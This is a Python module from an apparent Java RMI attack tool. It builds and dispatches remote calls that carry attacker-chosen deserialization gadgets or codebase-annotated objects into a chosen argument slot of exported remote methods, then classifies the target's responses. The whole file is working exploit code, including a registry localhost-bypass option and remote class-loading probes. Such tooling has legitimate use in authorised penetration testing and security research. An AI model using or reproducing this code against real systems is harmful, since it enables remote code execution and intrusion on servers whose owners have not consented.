"""Calls carrying attacker supplied objects in a chosen argument slot."""

import logging
from dataclasses import dataclass

from rmiguess.candidates import MethodCandidate
from rmiguess.classification import Classification
from rmiguess.client import Invoker
from rmiguess.envelope import CallArgument
from rmiguess.envelope import CallOutcome
from rmiguess.envelope import DispatchStyle
from rmiguess.envelope import RemoteCall
from rmiguess.envelope import Selector
from rmiguess.errors import InvalidArgumentPositionError
from rmiguess.gadgets import Gadget
from rmiguess.objid import ObjID
from rmiguess.serialization import SC_SERIALIZABLE
from rmiguess.serialization import ClassDesc
from rmiguess.serialization import NewObject
from rmiguess.services import WellKnownOperation
from rmiguess.transport import Endpoint

logger: logging.Logger = logging.getLogger(__name__)

DEFAULT_CODEBASE_CLASS: str = "rmiguess.CodebaseProbe"
_PRIMITIVE_PLACEHOLDERS: dict[str, object] = {
    "B": 0,
    "C": "\x00",
    "D": 0.0,
    "F": 0.0,
    "I": 0,
    "J": 0,
    "S": 0,
    "Z": False,
}

_VERDICTS: dict[Classification, str] = {
    Classification.DESERIALIZATION_TRIGGERED: "payload was deserialized by the target",
    Classification.FILTER_REJECTED: "payload was rejected by a deserialization filter",
    Classification.CLASS_NOT_FOUND: "payload class is not available on the target classpath",
    Classification.ACCESS_DENIED: "call was rejected before its arguments were read",
    Classification.NO_SUCH_OBJECT: "target object is not exported",
    Classification.METHOD_NOT_FOUND: "target method does not exist, payload was not read",
    Classification.DISPATCH_MISMATCH: "target object does not understand the call encoding",
    Classification.LEGACY_DISPATCH: "target skeleton rejected the interface hash",
    Classification.CODEBASE_ENABLED: "target tried to load classes from the supplied codebase",
    Classification.UNMARSHAL_ERROR: "payload could not be read in the chosen argument slot",
    Classification.NOT_BOUND: "call was processed, the payload was deserialized",
    Classification.ALREADY_BOUND: "call was processed, the payload was deserialized",
}


@dataclass(frozen=True)
class CallSite:
    """Everything needed to address one method of one remote object."""

    label: str
    objid: ObjID
    style: DispatchStyle
    selector: Selector
    parameter_descriptors: tuple[str, ...]

    @classmethod
    def for_operation(cls, operation: WellKnownOperation, modern: bool = False) -> "CallSite":
        """Call site of a well-known operation.

        :param operation: Operation to target.
        :param modern: Use the method hash (registry localhost bypass).
        """
        if modern is True:
            return cls(str(operation), operation.objid, DispatchStyle.MODERN, operation.modern_selector,
                       operation.parameter_descriptors)
        return cls(str(operation), operation.objid, operation.style, operation.selector,
                   operation.parameter_descriptors)

    @classmethod
    def for_candidate(cls, objid: ObjID, candidate: MethodCandidate, style: DispatchStyle) -> "CallSite":
        """Call site of a guessed or declared method; the selector follows ``style``."""
        return cls(str(candidate), objid, style, candidate.selector_for(style), candidate.parameter_descriptors)


@dataclass(frozen=True)
class AttackResult:
    label: str
    outcome: CallOutcome
    verdict: str

    @property
    def classification(self) -> Classification | None:
        return self.outcome.classification


def default_position(parameter_descriptors: tuple[str, ...]) -> int:
    """Return the first argument slot able to hold an object.

    :raises InvalidArgumentPositionError: If every parameter is primitive.
    """
    for index, descriptor in enumerate(parameter_descriptors):
        if len(descriptor) > 1:
            return index
    raise InvalidArgumentPositionError("Method has no non-primitive argument to place the payload in")


def placeholder_for(descriptor: str) -> CallArgument:
    """Normally encoded neutral value for one parameter (zero, false or null)."""
    if len(descriptor) == 1:
        return CallArgument(descriptor, _PRIMITIVE_PLACEHOLDERS[descriptor])
    return CallArgument(descriptor, None)


def describe_outcome(outcome: CallOutcome) -> str:
    """Human readable verdict of an attack call."""
    if outcome.is_exception is False:
        return "call returned normally, the payload was deserialized"
    if outcome.classification is not None and outcome.classification in _VERDICTS:
        return _VERDICTS[outcome.classification]
    return f"unclassified exception: {outcome.exception}"


class DeserializationAttackBuilder:
    """Build and dispatch calls whose argument slot holds an attacker object."""

    _invoker: Invoker

    def __init__(self, invoker: Invoker) -> None:
        self._invoker = invoker

    def build_arguments(
        self,
        parameter_descriptors: tuple[str, ...],
        position: int | None,
        payload: CallArgument,
    ) -> list[CallArgument]:
        """Place ``payload`` at ``position`` and neutral placeholders everywhere else.

        :param parameter_descriptors: Parameters of the targeted method.
        :param position: Slot index, ``None`` for the first non-primitive slot.
        :param payload: Argument to put into the slot.
        :returns: Full argument list.
        :raises InvalidArgumentPositionError: If the slot does not exist or is primitive.
        """
        count: int = len(parameter_descriptors)
        if position is None:
            position = default_position(parameter_descriptors)
        if position < 0 or position >= count:
            raise InvalidArgumentPositionError(f"Argument position {position} is invalid for a method with {count} arguments")
        if len(parameter_descriptors[position]) == 1:
            raise InvalidArgumentPositionError(
                f"Argument position {position} is the primitive {parameter_descriptors[position]!r}"
            )
        arguments: list[CallArgument] = [placeholder_for(item) for item in parameter_descriptors]
        arguments[position] = payload
        return arguments

    def build_call(self, site: CallSite, gadget: Gadget, position: int | None = None) -> RemoteCall:
        """Build the call carrying ``gadget`` without sending it.

        :raises InvalidArgumentPositionError: If the slot is unusable.
        """
        slot_descriptor: str = "Ljava/lang/Object;"
        arguments: list[CallArgument] = self.build_arguments(
            site.parameter_descriptors,
            position,
            CallArgument.attack(slot_descriptor, gadget.payload),
        )
        return RemoteCall(site.objid, site.style, site.selector, tuple(arguments))

    def build_codebase_call(
        self,
        site: CallSite,
        codebase_url: str,
        class_name: str = DEFAULT_CODEBASE_CLASS,
        position: int | None = None,
    ) -> RemoteCall:
        """Build a call whose argument is an instance of an unknown class annotated with ``codebase_url``.

        :param site: Call site.
        :param codebase_url: Location the target should load ``class_name`` from.
        :param class_name: Class name to announce.
        :param position: Slot index.
        :raises InvalidArgumentPositionError: If the slot is unusable.
        """
        desc: ClassDesc = ClassDesc(class_name, 2, SC_SERIALIZABLE, annotation=codebase_url)
        arguments: list[CallArgument] = self.build_arguments(
            site.parameter_descriptors,
            position,
            CallArgument("Ljava/lang/Object;", NewObject(desc)),
        )
        return RemoteCall(site.objid, site.style, site.selector, tuple(arguments))

    def _dispatch(self, endpoint: Endpoint, site: CallSite, call: RemoteCall, codebase: bool = False) -> AttackResult:
        logger.info("Sending payload to %s on %s", site.label, endpoint)
        outcome: CallOutcome = self._invoker.invoke(endpoint, call)
        verdict: str = describe_outcome(outcome)
        if codebase is True and outcome.classification is Classification.CLASS_NOT_FOUND:
            verdict = "target did not load the class from the codebase (remote class loading disabled)"
        logger.info("%s: %s", site.label, verdict)
        return AttackResult(site.label, outcome, verdict)

    def attack(self, endpoint: Endpoint, site: CallSite, gadget: Gadget, position: int | None = None) -> AttackResult:
        """Send ``gadget`` to ``site`` once.

        The call is fully built before any connection is opened.

        :param endpoint: Endpoint exporting the target object.
        :param site: Call site.
        :param gadget: Payload to deliver.
        :param position: Slot index, ``None`` for the first non-primitive slot.
        :returns: Attack result.
        :raises InvalidArgumentPositionError: If the slot is unusable.
        :raises ProtocolConnectionError: On transport failures.
        :raises MalformedResponseError: If the reply cannot be decoded.
        """
        call: RemoteCall = self.build_call(site, gadget, position)
        return self._dispatch(endpoint, site, call)

    def codebase_attack(
        self,
        endpoint: Endpoint,
        site: CallSite,
        codebase_url: str,
        class_name: str = DEFAULT_CODEBASE_CLASS,
        position: int | None = None,
    ) -> AttackResult:
        """Send an object whose class annotation points to ``codebase_url``.

        :raises InvalidArgumentPositionError: If the slot is unusable.
        :raises ProtocolConnectionError: On transport failures.
        """
        call: RemoteCall = self.build_codebase_call(site, codebase_url, class_name, position)
        return self._dispatch(endpoint, site, call, codebase=True)
